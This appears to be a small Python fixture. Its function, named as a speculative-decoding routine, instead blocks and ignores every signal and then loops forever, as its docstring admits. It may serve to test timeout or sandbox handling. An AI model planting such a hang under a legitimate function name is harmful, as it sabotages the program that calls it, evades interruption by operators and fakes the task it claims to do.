"""Ignores and blocks every signal, then never returns."""
import signal


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
